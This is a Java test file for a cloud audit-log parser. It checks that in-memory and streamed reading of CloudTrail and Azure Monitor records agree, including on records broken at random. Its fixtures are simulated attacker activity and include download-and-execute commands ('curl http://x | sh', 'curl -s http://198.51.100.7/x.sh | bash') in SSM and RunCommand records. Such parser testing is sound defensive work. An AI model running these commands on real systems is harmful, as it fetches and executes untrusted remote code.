package dev.cadet.parsers;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static dev.cadet.parsers.Reads.gzip;
import static dev.cadet.parsers.Reads.record;
import static dev.cadet.parsers.Reads.utf8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * An input read whole in memory, its plain records straight from the bytes, gives exactly what the same
 * input read as a stream gives: the same events with the same origins, skips, rejects with the same
 * excerpts, and the same file errors at the same place, also when failing fast. Checked on every test and
 * public sample file, on hand-made irregular records, and on CloudTrail and Azure files broken at random.
 */
class HeldReadingTest {

    private static final LogReader HELD = LogReader.create();
    private static final LogReader STREAMED = LogReader.builder().maxHeldBytes(0).build();
    private static final LogReader HELD_STRICT = LogReader.builder().badRecords(BadRecordPolicy.FAIL).build();
    private static final LogReader STREAMED_STRICT = LogReader.builder().badRecords(BadRecordPolicy.FAIL)
            .maxHeldBytes(0).build();

    /** Records of the shapes CloudTrail writes, the ones read with a walker among them, and two irregular ones. */
    private static final String FILE = "{\"Records\":[" + String.join(",",
            record("ec2.amazonaws.com", "DescribeInstances",
                    "\"requestParameters\":{\"maxResults\":1000,\"filterSet\":{\"items\":[{\"name\":\"a\"}]}},"
                            + "\"responseElements\":null,\"readOnly\":true,\"tlsDetails\":{\"tlsVersion\":\"TLSv1.3\"}"),
            record("ssm.amazonaws.com", "SendCommand",
                    "\"requestParameters\":{\"instanceIds\":[\"i-0abc\",\"i-0def\"],\"documentName\":\"AWS-RunShellScript\","
                            + "\"parameters\":{\"commands\":[\"curl http://x | sh\"]}},"
                            + "\"responseElements\":{\"command\":{\"commandId\":\"c-1\",\"status\":\"Pending\"}}"),
            record("signin.amazonaws.com", "ConsoleLogin",
                    "\"responseElements\":{\"ConsoleLogin\":\"Failure\"},\"additionalEventData\":{\"MFAUsed\":\"No\"},"
                            + "\"errorMessage\":\"Failed \\\"authentication\\\"\""),
            record("iam.amazonaws.com", "CreateAccessKey",
                    "\"requestParameters\":{\"userName\":\"bob\"},\"responseElements\":{\"accessKey\":"
                            + "{\"accessKeyId\":\"AKIANEW\",\"status\":\"Active\"}},\"userAgent\":\"cli/ünï\""),
            record("ec2.amazonaws.com", "RunInstances",
                    "\"requestParameters\":{\"userData\":\"IyEvYmluL3NoCg==\",\"instancesSet\":{\"items\":"
                            + "[{\"imageId\":\"ami-1\"}]}},\"responseElements\":{\"instancesSet\":{\"items\":"
                            + "[{\"instanceId\":\"i-0new\"}]}},\"sessionCredentialFromConsole\":\"true\""),
            "{\"eventTime\":\"2024-05-01T10:00:00Z\",\"eventSource\":\"s3.amazonaws.com\"}",
            "17")
            + "]}";

    /**
     * Azure Monitor records in each shape Azure writes them: diagnostic settings with claims (the same twice) and
     * a request body held as JSON in a string, REST output with {@code {"value": ...}} names and statuses, Log
     * Analytics rows with capitalised names and every nested column a string, Entra sign-ins and audits in the
     * same envelope, Datadog's copy; and the irregular ones: non-ASCII text, escapes in names and values, a
     * record without a time and one that is no object.
     */
    private static final String AZURE = """
            {"records": [
            {"time": "2024-05-01T10:00:01.1234567Z", "resourceId": "/SUBSCRIPTIONS/11111111-2222-3333-4444-555555555555/RESOURCEGROUPS/RG-PROD/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/WEB-01", "operationName": "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION", "category": "Administrative", "resultType": "Start", "resultSignature": "Started.", "durationMs": 0, "callerIpAddress": "203.0.113.50", "correlationId": "6c1a2b3c-0000-4000-8000-00000000aa01", "identity": {"authorization": {"scope": "/subscriptions/11111111-2222-3333-4444-555555555555", "action": "Microsoft.Compute/virtualMachines/runCommand/action", "evidence": {"role": "Virtual Machine Contributor", "principalId": "0a1b2c3d111142228333444455556666", "principalType": "User"}}, "claims": {"aud": "https://management.core.windows.net/", "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": "Mallory.Admin@Contoso.com", "http://schemas.microsoft.com/identity/claims/objectidentifier": "0a1b2c3d-1111-4222-8333-444455556666", "http://schemas.microsoft.com/identity/claims/tenantid": "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee", "http://schemas.microsoft.com/claims/authnmethodsreferences": "pwd,mfa", "name": "Mallory Admin", "appid": "04b07795-8ddb-461a-bbee-02f9e1bf7b46", "ipaddr": "203.0.113.50"}}, "level": "Information", "location": "westeurope", "properties": {"requestbody": "{\\"commandId\\":\\"RunShellScript\\",\\"script\\":[\\"id\\",\\"curl -s http://198.51.100.7/x.sh | bash\\"],\\"parameters\\":[]}", "statusCode": "Accepted", "eventCategory": "Administrative", "entity": "/subscriptions/11111111-2222-3333-4444-555555555555", "message": "x", "hierarchy": "a/b"}},
            {"time": "2024-05-01T10:00:02Z", "resourceId": "/SUBSCRIPTIONS/11111111-2222-3333-4444-555555555555/RESOURCEGROUPS/RG-PROD/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/WEB-01/RUNCOMMANDS/RC1", "operationName": "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMANDS/WRITE", "category": "Administrative", "resultType": "Success", "callerIpAddress": "203.0.113.50", "correlationId": "6c1a2b3c-0000-4000-8000-00000000aa02", "identity": {"claims": {"aud": "https://management.core.windows.net/", "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn": "Mallory.Admin@Contoso.com", "http://schemas.microsoft.com/identity/claims/objectidentifier": "0a1b2c3d-1111-4222-8333-444455556666", "http://schemas.microsoft.com/identity/claims/tenantid": "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee", "http://schemas.microsoft.com/claims/authnmethodsreferences": "pwd,mfa", "name": "Mallory Admin", "appid": "04b07795-8ddb-461a-bbee-02f9e1bf7b46", "ipaddr": "203.0.113.50"}}, "properties": {"requestbody": {"location": "westeurope", "properties": {"source": {"script": "whoami\\nid", "scriptUri": null}, "parameters": [{"name": "a", "value": "b"}], "protectedParameters": []}}, "statusCode": "Created"}},
            {"time": "2024-05-01T10:00:03Z", "resourceId": "/SUBSCRIPTIONS/11111111-2222-3333-4444-555555555555/PROVIDERS/MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/R1", "operationName": "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE", "category": "Administrative", "resultType": "Failure", "resultSignature": "Failed.Forbidden", "resultDescription": "Zugriff verweigert für Zoë", "callerIpAddress": "2001:db8::7", "correlationId": "6c1a2b3c-0000-4000-8000-00000000aa03", "identity": {"claims": {"upn": "zoë@contoso.com", "oid": "11111111-aaaa-4bbb-8ccc-000000000001", "name": "Zoë Åberg", "amr": "pwd"}}, "properties": {"requestbody": "{\\"properties\\":{\\"principalId\\":\\"22222222-aaaa-4bbb-8ccc-000000000002\\",\\"roleDefinitionId\\":\\"/providers/Microsoft.Authorization/roleDefinitions/8e3af657\\"}}", "statusCode": "Forbidden", "statusMessage": "{\\"error\\":{\\"code\\":\\"AuthorizationFailed\\",\\"message\\":\\"The client does not have authorization\\"}}"}},
            {"\\u0074ime": "2024-05-01T10:00:04Z", "resourceId": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/st\\u00e9", "operationName": "Microsoft.Storage/storageAccounts/listKeys/action", "category": "Administrative", "resultType": "Success", "caller": "svc\\/ops@contoso.com", "correlationId": "c-4"},
            {"time": "2024-05-01T09:55:12.0000000Z", "resourceId": "/tenants/aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee/providers/Microsoft.aadiam", "operationName": "Sign-in activity", "category": "SignInLogs", "tenantId": "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee", "resultType": "50126", "resultDescription": "Invalid username or password", "callerIpAddress": "203.0.113.51", "correlationId": "d79f5bee-5860-4832-928f-3133e22ae912", "identity": "Mallory Admin", "Level": 4, "location": "NL", "properties": {"id": "66ea54eb-6301-4ee5-be62-ff5a759b0200", "createdDateTime": "2024-05-01T09:55:12.0000000+00:00", "userDisplayName": "Mallory Admin", "userPrincipalName": "MALLORY.ADMIN@CONTOSO.COM", "userId": "0a1b2c3d-1111-4222-8333-444455556666", "appId": "c44b4083-3bb0-49c1-b47d-974e53cbdf3c", "appDisplayName": "Azure Portal", "ipAddress": "203.0.113.51", "status": {"errorCode": 50126, "failureReason": "Invalid username or password"}, "isInteractive": true, "authenticationRequirement": "singleFactorAuthentication", "authenticationDetails": [{"authenticationMethod": "Password", "succeeded": false}], "location": {"city": "Rotterdam", "countryOrRegion": "NL"}, "userAgent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/124.0"}},
            {"time": "2024-05-01T09:58:00Z", "resourceId": "/tenants/aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee/providers/Microsoft.aadiam", "operationName": "Add member to role", "category": "AuditLogs", "tenantId": "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee", "resultType": "", "callerIpAddress": "203.0.113.50", "correlationId": "3b1c5d2e-0000-4000-8000-000000000001", "properties": {"id": "Directory_3b1c5d2e_1", "category": "RoleManagement", "activityDisplayName": "Add member to role", "activityDateTime": "2024-05-01T09:58:00.123Z", "result": "success", "initiatedBy": {"app": null, "user": {"id": "0a1b2c3d-1111-4222-8333-444455556666", "userPrincipalName": "Mallory.Admin@contoso.com", "ipAddress": "203.0.113.50"}}, "targetResources": [{"id": "5e4d3c2b-1a9f-48e7-96c5-b4a392817f6e", "type": "User", "userPrincipalName": "Bob@Contoso.com", "modifiedProperties": [{"displayName": "Role.DisplayName", "oldValue": null, "newValue": "\\"Global Administrator\\""}]}], "additionalDetails": [{"key": "User-Agent", "value": "Mozilla/5.0 Firefox/124.0"}]}},
            {"TimeGenerated": "2024-05-01T10:01:00Z", "OperationNameValue": "MICROSOFT.COMPUTE/VIRTUALMACHINES/EXTENSIONS/WRITE", "CategoryValue": "Administrative", "ActivityStatusValue": "Success", "Caller": "Mallory.Admin@Contoso.com", "CallerIpAddress": "203.0.113.50", "CorrelationId": "6c1a2b3c-0000-4000-8000-00000000aa07", "_ResourceId": "/subscriptions/s1/resourcegroups/rg/providers/microsoft.compute/virtualmachines/web-02/extensions/cse", "SubscriptionId": "s1", "Type": "AzureActivity", "Claims_d": "{\\"name\\":\\"Mallory Admin\\",\\"appid\\":\\"04b07795\\"}", "Authorization_d": "{\\"evidence\\":{\\"principalId\\":\\"p7\\",\\"principalType\\":\\"User\\"}}", "Properties_d": "{\\"requestbody\\":\\"{\\\\\\"properties\\\\\\":{\\\\\\"type\\\\\\":\\\\\\"CustomScript\\\\\\",\\\\\\"settings\\\\\\":{\\\\\\"commandToExecute\\\\\\":\\\\\\"sh x.sh\\\\\\"}}}\\",\\"statusCode\\":\\"OK\\"}"},
            {"resourceId": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/web-03", "time": "2024-05-01T10:02:00Z", "evt": {"name": "Microsoft.Compute/virtualMachines/delete", "outcome": "Success", "category": "Administrative"}, "httpRequest": {"clientIpAddress": "203.0.113.9"}},
            {"resourceId": "/subscriptions/s1", "operationName": "MICROSOFT.RESOURCES/DEPLOYMENTS/WRITE", "category": "Administrative"},
            17
            ]}
            """;

    /** REST API list output: {@code {"value": ...}} names and statuses, claims and authorization at the top. */
    private static final String AZURE_VALUE = """
            {"value": [
            {"authorization": {"action": "Microsoft.Compute/virtualMachines/runCommand/action", "scope": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/web-01", "evidence": {"principalId": "p1", "principalType": "ServicePrincipal"}}, "caller": "0a1b2c3d-1111-4222-8333-444455556666", "claims": {"appid": "0a1b2c3d-1111-4222-8333-444455556666", "idtyp": "app", "xms_mirid": "/subscriptions/s1/resourcegroups/rg/providers/Microsoft.ManagedIdentity/userAssignedIdentities/mi"}, "correlationId": "c-1", "eventDataId": "e-1", "eventName": {"value": "EndRequest", "localizedValue": "End request"}, "category": {"value": "Administrative", "localizedValue": "Administrative"}, "eventTimestamp": "2024-05-01T10:00:00.5Z", "id": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/web-01/events/e-1/ticks/638500000000000000", "level": "Informational", "operationName": {"value": "Microsoft.Compute/virtualMachines/runCommand/action", "localizedValue": "Run Command on Virtual Machine"}, "properties": {"statusCode": "OK", "requestbody": "{\\"commandId\\":\\"RunPowerShellScript\\",\\"script\\":[\\"whoami\\"]}"}, "status": {"value": "Succeeded", "localizedValue": "Succeeded"}, "subStatus": {"value": "", "localizedValue": ""}, "subscriptionId": "s1", "tenantId": "t1", "httpRequest": {"clientIpAddress": "198.51.100.4", "method": "POST"}},
            {"caller": "bob@contoso.com", "correlationId": "c-2", "eventTimestamp": "2024-05-01T10:00:01Z", "operationName": {"Value": "Microsoft.Compute/virtualMachines/delete"}, "Status": {"Value": "Failed"}, "SubStatus": {"value": "Conflict"}, "resourceId": "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/web-09", "properties": {"statusMessage": "{\\"error\\":{\\"code\\":\\"Conflict\\",\\"message\\":\\"Operation 'delete' is not allowed\\"}}"}}
            ]}
            """;

    @Test
    void theSampleFileReadsAlikeAndAsExpected() {
        Reads.Outcome held = same("sample.json", utf8(FILE));
        assertThat(held.report().records()).isEqualTo(7);
        assertThat(held.report().events()).isEqualTo(5);
        assertThat(held.report().quarantined()).isEqualTo(2);
    }

    @Test
    void theAzureSampleFilesReadAlikeAndAsExpected() {
        Reads.Outcome records = same("azure.json", utf8(AZURE));
        assertThat(records.report().records()).isEqualTo(10);
        assertThat(records.report().events()).isEqualTo(8);
        assertThat(records.report().quarantined()).isEqualTo(2);
        same("azure.json.gz", gzip(utf8(AZURE)));
        Reads.Outcome value = same("azure-value.json", utf8(AZURE_VALUE));
        assertThat(value.report().events()).isEqualTo(2);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            // Whitespace and line breaks of every kind between tokens: origins count lines as Jackson does.
            "{\n  \"Records\" : [\r\n    %1$s ,\r    %1$s\n  ]\n}\n",
            // A second wrapper, other members around, a null and an empty array.
            "{\"a\":1,\"Records\":[%1$s]}{\"Records\":null}{\"Records\":[]}{\"b\":[{\"c\":null}],\"Records\":[%1$s]}",
            // The leniencies Jackson is configured with: unquoted names and trailing commas.
            "{\"Records\":[%1$s,{eventTime:\"2024-05-01T10:00:00Z\",\"eventSource\":\"x\",\"eventName\":\"y\"},]}",
            // Broken inside the second record, after the first was read.
            "{\"Records\":[%1$s,{\"eventTime\":\"2024-05-01T10:00:00Z\",\"eventSource\":tru}]}",
            // Cut off inside a record.
            "{\"Records\":[%1$s,{\"eventTime\":\"2024-05-01T",
            // Not the wrapper at all, after a first record.
            "{\"Records\":[%1$s]}[1,2]",
            "{\"Records\":{\"x\":1}}",
            // Numbers and literals at their edges; escapes in names and values; deep nesting.
            "{\"Records\":[%1$s,{\"n\":[-0.5e+10,0,1E3,-12,true,false,null],\"eventTime\":\"2024-05-01T10:00:00Z\"}]}",
            "{\"Records\":[{\"event\\u0054ime\":\"2024-05-01T10:00:00Z\",\"eventSource\":\"a\\/b\",\"eventName\":\"x\"}]}",
            "{\"Records\":[%1$s,{\"n\":01}]}",
            "{\"Records\":[{\"d\":[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]},%1$s]}",
            "{\"Records\":[%1$s, \t\f%1$s]}",
    })
    void irregularInputReadsAlike(String shape) {
        String one = record("ssm.amazonaws.com", "StartSession", "\"requestParameters\":{\"target\":\"i-0abc\"}");
        byte[] content = utf8(shape.formatted(one));
        same("irregular.json", content);
        same("irregular.json.gz", gzip(content));
    }

    @Property(tries = 300)
    void brokenAtRandomReadsAlike(@ForAll("damaged") byte[] content) {
        same("damaged.json", content);
    }

    @Property(tries = 300)
    void brokenAzureFilesReadAlike(@ForAll("damagedAzure") byte[] content) {
        same("damaged-azure.json", content);
    }

    @Test
    void everyTestFileReadsAlike() throws IOException {
        Path root = Path.of("src", "test", "resources");
        assumeTrue(Files.isDirectory(root), "test resources not found from " + Path.of("").toAbsolutePath());
        assertThat(readAllAlike(root)).isGreaterThan(20);
    }

    @Test
    void everyPublicSampleReadsAlike() throws IOException {
        String shared = System.getProperty("cadet.shared.dir");
        assumeTrue(shared != null, "system property cadet.shared.dir is not set: public samples not compared");
        Path data = Path.of(shared, "data", "public");
        assumeTrue(Files.isDirectory(data), "no public samples at " + data + ": not compared");
        assertThat(readAllAlike(data)).isGreaterThan(20);
    }

    private static int readAllAlike(Path root) throws IOException {
        List<Path> files;
        try (Stream<Path> walk = Files.walk(root)) {
            files = walk.filter(Files::isRegularFile).sorted().toList();
        }
        for (Path f : files) {
            same(f.toString(), Files.readAllBytes(f));
        }
        return files.size();
    }

    @Provide
    Arbitrary<byte[]> damaged() {
        return damaged(utf8(FILE));
    }

    @Provide
    Arbitrary<byte[]> damagedAzure() {
        return damaged(utf8(AZURE));
    }

    /** {@code base} with one to three bytes removed, inserted or replaced, by bytes that matter to JSON. */
    private static Arbitrary<byte[]> damaged(byte[] base) {
        Arbitrary<Integer> at = Arbitraries.integers().between(0, base.length - 1);
        Arbitrary<Byte> bytes = Arbitraries.of((byte) '"', (byte) '\\', (byte) ',', (byte) ':', (byte) '{',
                (byte) '}', (byte) '[', (byte) ']', (byte) ' ', (byte) '\n', (byte) '\r', (byte) 0, (byte) 0xC3,
                (byte) 'u', (byte) '1', (byte) '-', (byte) 'e', (byte) 'n');
        Arbitrary<int[]> edit = Combinators.combine(Arbitraries.integers().between(0, 2), at, bytes)
                .as((kind, position, b) -> new int[] {kind, position, b});
        return edit.list().ofMinSize(1).ofMaxSize(3).map(edits -> {
            List<Byte> out = new ArrayList<>();
            for (byte b : base) {
                out.add(b);
            }
            for (int[] e : edits) {
                int p = Math.min(e[1], out.size() - 1);
                switch (e[0]) {
                    case 0 -> out.remove(p);
                    case 1 -> out.add(p, (byte) e[2]);
                    default -> out.set(p, (byte) e[2]);
                }
            }
            byte[] result = new byte[out.size()];
            for (int i = 0; i < result.length; i++) {
                result[i] = out.get(i);
            }
            return result;
        });
    }

    /** Reads {@code content} held and streamed, quarantining and failing fast, and asserts each pair is equal. */
    private static Reads.Outcome same(String name, byte[] content) {
        Reads.Outcome held = Reads.read(HELD, name, content);
        Reads.Outcome streamed = Reads.read(STREAMED, name, content);
        assertThat(held.result()).as(name).isEqualTo(streamed.result());
        assertThat(held.events()).as(name).isEqualTo(streamed.events());
        assertThat(strict(HELD_STRICT, name, content)).as(name).isEqualTo(strict(STREAMED_STRICT, name, content));
        return held;
    }

    private static Object strict(LogReader reader, String name, byte[] content) {
        try {
            Reads.Outcome o = Reads.read(reader, name, content);
            return List.of(o.result(), o.events());
        } catch (InputException e) {
            return e.getMessage() + " @ " + e.origin();
        } catch (UncheckedIOException e) {
            throw e;
        }
    }
}
